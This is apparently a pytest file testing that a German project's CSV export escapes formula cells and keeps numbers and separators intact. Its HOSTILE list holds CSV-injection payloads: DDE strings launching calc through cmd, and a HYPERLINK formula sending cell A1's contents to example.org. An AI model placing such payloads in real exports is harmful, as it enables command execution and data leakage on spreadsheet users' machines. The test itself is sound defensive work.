"""The one CSV writer (exports/tables.py): open data and the board report's tables go through it."""

from __future__ import annotations

import csv
import io

import pytest
from linkshilft.exports import tables

# What a spreadsheet would run (OWASP "CSV Injection"): a cell starting with = + - @, tab or CR.
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1;"Klick")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "+49 341 1234567",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+-1",
    "-1.2.3",
    "-١",  # an Arabic-Indic digit: isdigit() says yes, a spreadsheet says formula
]
READABLE = {"-1": "-1", "+3": "+3", "-2,5": "-2,5", "0.5": "0.5", "−4": "−4", "±0": "±0", "2026-12-01": "2026-12-01"}


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # German Excel needs the byte order mark to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_text_not_a_formula(text):
    (header, (cell,)) = read_back(tables.csv_bytes(["Spalte"], [[text]]))
    assert header == ["Spalte"]
    assert cell == f"'{text}"


@pytest.mark.parametrize(("text", "cell"), READABLE.items())
def test_a_signed_number_stays_a_number(text, cell):
    assert read_back(tables.csv_bytes(["Zahl"], [[text]]))[1] == [cell]


@pytest.mark.parametrize(
    ("value", "cell"),
    [(True, "ja"), (False, "nein"), (None, ""), (51.329, "51,329"), (-3, "-3"), (-0.5, "-0,5"), ("Bürgerbüro", "Bürgerbüro")],
)
def test_values_become_spreadsheet_text(value, cell):
    assert tables.cell(value) == cell


def test_separators_quotes_and_line_breaks_stay_inside_their_cell():
    data = tables.csv_bytes(["a", "b"], [['x;"y"\nz', "\x07=2"]])
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 2  # CRLF rows; the line break inside is quoted
    assert read_back(data) == [["a", "b"], ['x;"y"\nz', "'=2"]]  # no control character, no formula
